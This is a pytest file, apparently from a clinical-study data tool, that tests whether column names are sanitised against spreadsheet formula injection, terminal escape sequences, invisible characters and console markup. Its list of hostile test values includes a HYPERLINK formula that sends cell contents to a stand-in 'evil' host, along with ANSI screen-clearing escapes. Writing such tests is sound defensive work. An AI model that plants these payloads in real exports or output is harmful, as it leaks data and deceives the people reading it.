"""Names that others chose, where they are shown: no spreadsheet runs them, no terminal obeys them, no markup is read in them."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.table import Table

from cohortium.commands.study import print_forecast
from cohortium.data.columns import Boolean, Categorical
from cohortium.data.schema import Schema
from cohortium.errors import InputError, SchemaError, StudyError
from cohortium.federation import forecast
from cohortium.study.study import Study
from cohortium.system import output
from cohortium.system.texts import SIGNS, for_spreadsheet, for_terminal, is_unseen, starts_formula, trouble
from cohortium_server.release.tables import write_table
from cohortium_server.release.unprotected import _write_table

ROOT = Path(__file__).parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil/?"&A2,"x")', "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\ufe661", "\u207c1", "\u22121", "\u2260", "a\u202eb", "a\u2066b", "a\u200bb", "a\x1b[31m",
    "a\x9b31m", "a\nb", "a\rb", "a\x00b", "a\u2028b", "a\u061cb", "a\u00adb", " ", "\u3000",
]  # fmt: skip
FINE = [
    "blood pressure",
    "x-y",
    "naïve",
    "Größe",
    "性別",
    "a=b",
    "a+b",
    "5 - 10",
    "<5",
    "it's",
    "[red]",
    "#1",
    "سن",
    "α@β",
    "≥ 65",
    "'=1'",
]
LETTERS = st.text(
    st.sampled_from([*"=+-@ ab1'\t\r\n\x1b;,\"", "\uff1d", "\u200b", "\u202e", "\u0338", "\u2260", "\ufeff"])
)
ANY = LETTERS | st.text(max_size=12)


def runs(cell: str) -> bool:
    """Whether the cell begins like a formula in any normal form, after whatever a program may drop: stated in another way."""
    forms = [cell, *(unicodedata.normalize(form, cell) for form in ("NFC", "NFD", "NFKC", "NFKD"))]
    dropped = re.compile(r"[\s\x00-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]*")
    return any(dropped.sub("", text, count=1).startswith(SIGNS) for text in forms) and not nothing_to_run(cell)


def nothing_to_run(cell: str) -> bool:
    """Signs alone, and signed numbers."""
    digits = cell[1:].replace(".", "", 1)
    number = (
        cell[:1] in "+-" and cell[1:2].isascii() and digits.isdigit() and digits.isascii() and cell[-1] in "0123456789"
    )
    return (0 < len(cell) <= 4 and set(cell) <= {"+", "-"}) or (number and cell[1] in "0123456789")


@pytest.mark.parametrize("name", HOSTILE, ids=map(str, range(len(HOSTILE))))
def test_no_schema_has_such_a_name_or_category(name: str) -> None:
    for made in (
        lambda: Schema(columns=(Boolean(name=name),)),
        lambda: Schema(columns=(Boolean(name="x"),), person=name),
        lambda: Schema(columns=(Boolean(name="x"),), name=name),
        *([] if nothing_to_run(name) else [lambda: Categorical(name="x", categories=("a", name))]),
    ):
        with pytest.raises(SchemaError) as caught:
            made()
        assert caught.value.code == "E_SCHEMA_INVALID"
        assert not any(map(is_unseen, str(caught.value)))


def test_results_and_grades_are_categories() -> None:
    words = ("+", "-", "++", "+1", "-1", "-2.5")
    assert Categorical(name="rh", categories=words).categories == words
    assert [for_spreadsheet(word) for word in words] == list(words)
    for word in ("+1+1", "-A1", "+cmd", "+-+-+", "--1", "+1.", "\uff0b"):
        with pytest.raises(SchemaError):
            Categorical(name="rh", categories=("a", word))


@pytest.mark.parametrize("name", FINE)
def test_what_people_name_things_is_kept(name: str) -> None:
    schema = Schema(
        columns=(Boolean(name=name), Categorical(name="x", categories=("a", name))), person=f"{name} id", name=name
    )
    assert trouble(name) == "" and for_terminal(name) == for_spreadsheet(name) == name
    assert schema.names[0] == name


def test_a_text_of_a_schema_or_study_hides_nothing(study: Study) -> None:
    kept = Boolean(name="x", description="two\nlines")
    assert Schema(columns=(kept,)).columns[0].description == "two\nlines"
    for texts in ({"unit": "a\u202e"}, {"description": "a\x1b[2J"}, {"review": ("a\u200b",)}):
        with pytest.raises(SchemaError):
            Schema(columns=(replace(kept, **texts),))  # type: ignore[arg-type]
    with pytest.raises(StudyError, match="purpose"):
        replace(study, purpose="good\x1b[2J")
    assert replace(study, purpose="two\nlines").purpose == "two\nlines"


@given(ANY)
def test_what_is_a_formula_is_the_same_by_two_definitions(text: str) -> None:
    if runs(text):
        assert starts_formula(text)
    assert not runs(for_spreadsheet(text))
    assert for_spreadsheet(text).removeprefix("'").split() == text.removeprefix("'").split()
    assert "\r" not in for_spreadsheet(text)


@given(ANY)
def test_a_terminal_gets_one_line_and_no_orders(text: str) -> None:
    shown = for_terminal(text)
    assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in shown)
    assert shown == text or len(shown) > len(text)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.lists(ANY, min_size=1, max_size=4, unique=True), st.lists(ANY, min_size=1, max_size=5))
def test_no_cell_that_is_written_is_a_formula(tmp_path: Path, names: list[str], values: list[str]) -> None:
    kinds = ["object", "str", "category", "object"]
    table = pd.DataFrame({n: pd.Series(values).astype(k) for n, k in zip(names, kinds, strict=False)})  # type: ignore[call-overload]
    table.insert(0, "number", range(-1, len(values) - 1))
    write_table(table, tmp_path / "t.csv")
    _write_table(tmp_path, "synthetic", table)
    for file, above in (("t.csv", 0), ("NOT-PRIVATE-synthetic.csv", 1)):
        with (tmp_path / file).open(encoding="utf-8", newline="") as written:
            cells = list(csv.reader(written))[above:]
        assert len(cells[0]) == 1 + len(names)
        assert not any(map(runs, cells[0])) and not any(runs(c) for row in cells[1:] for c in row[1:])


NAMES = st.sampled_from(HOSTILE + FINE) | ANY


@given(st.lists(NAMES, min_size=1, max_size=4, unique=True), st.lists(NAMES, min_size=1, max_size=3, unique=True))
def test_no_csv_of_an_accepted_schema_holds_a_formula(
    tmp_path_factory: pytest.TempPathFactory, names: list[str], categories: list[str]
) -> None:
    for listed in (tuple(categories), ("a", "b")):
        try:
            schema = Schema(columns=tuple(Categorical(name=n, categories=listed, nullable=True) for n in names))
        except SchemaError:
            continue
        assert not any(map(runs, (*schema.names, *listed)))
        path = tmp_path_factory.mktemp("csv") / "t.csv"
        write_table(pd.DataFrame(dict.fromkeys(schema.names, listed)), path)
        read = pd.read_csv(path, keep_default_na=False, dtype=str)
        assert list(read.columns) == names and not read.map(runs).to_numpy().any()  # and nothing had to be changed
        assert read.iloc[:, 0].tolist() == list(listed)


# What commands print


@pytest.mark.parametrize("name", [*HOSTILE, *FINE], ids=map(str, range(len(HOSTILE + FINE))))
def test_lines_and_objects_hold_no_orders(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    output.print_result(f"column {name!s} of", "a")
    output.print_status(f"file {name}", name)
    output.print_json({name: [name]})
    out, err = capsys.readouterr()
    shown = out.removesuffix("\n").split("\n") + err.removesuffix("\n").split("\n")
    assert len(shown) == 5
    assert not any(map(is_unseen, "".join(shown)))
    assert json.loads(shown[2]) == {name: [name]}


def test_an_error_that_quotes_a_name_is_one_line_without_orders(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(Exception, match="10"), output.guarded():
        raise InputError("E_IO", "a\x1b[2J\u202eb\n.csv", "x", "y")
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and not any(map(is_unseen, err[:-1]))
    assert "\\x1b[2J\\u202eb" in err


def test_a_console_reads_no_markup_in_names(capsys: pytest.CaptureFixture[str]) -> None:
    table = Table(title="[red]t[/red]")
    table.add_column("[b]h[/b]")
    table.add_row("[red]x[/red] :smile: \x1b[31m\x07\u202e")
    screen = output.console()
    screen.print(table)
    screen.print("[link=http://evil]y[/link]\x1b]0;title\x07")
    out = capsys.readouterr().out
    for text in (
        "[red]t[/red]",
        "[b]h[/b]",
        "[red]x[/red] :smile: \\x1b[31m\\x07\\u202e",
        "[link=http://evil]y[/link]\\x1b]0;title",
    ):
        assert text in " ".join(out.split()), out
    assert not any(map(is_unseen, out.replace("\n", "")))


def test_a_bar_reads_no_markup_in_its_words(monkeypatch: pytest.MonkeyPatch) -> None:
    bar = output.Bar()
    bar.start(1, "[red]x\x1b[31m[/red]")
    (column,) = [c for c in bar._bars.columns if type(c).__name__ == "TextColumn"][:1]
    assert str(column.render(bar._bars.tasks[0])) == "[red]x\\x1b[31m[/red]"
    bar.done()


def test_a_forecast_shows_a_column_as_it_is_named(study: Study, capsys: pytest.CaptureFixture[str]) -> None:
    reported = forecast.forecast(study)
    print_forecast({**reported, "buys": ["of '[red]x[/red]' \x1b[2J"], "name": "[blink]visits"})
    out = capsys.readouterr().out
    assert "of '[red]x[/red]' \\x1b[2J" in out and "[blink]visits" in out


WRITERS = {
    r"\.to_csv\(": {"server/cohortium_server/release/tables.py", "server/cohortium_server/release/unprotected.py"},
    r"typer\.echo\(|click\.echo\(|secho\(": {
        "common/cohortium/system/output.py",
        "common/cohortium/commands/ledger.py",  # JSON, whose escapes are in it
        "common/cohortium/cli.py",  # the version
    },
    r"import Console\b": {"common/cohortium/system/output.py"},
    r"csv\.writer|DictWriter": set(),
    r"(?<![\w.])print\(": set(),
}


@pytest.mark.parametrize("pattern", WRITERS, ids=ascii)
def test_nobody_writes_past_what_makes_texts_harmless(pattern: str) -> None:
    packages = ("common", "client", "server", "simulation")
    files = [p for package in packages for p in (ROOT / package).rglob("*.py")]
    assert len(files) > 150
    found = {p.relative_to(ROOT).as_posix() for p in files if re.search(pattern, p.read_text(encoding="utf-8"))}
    assert found == WRITERS[pattern]
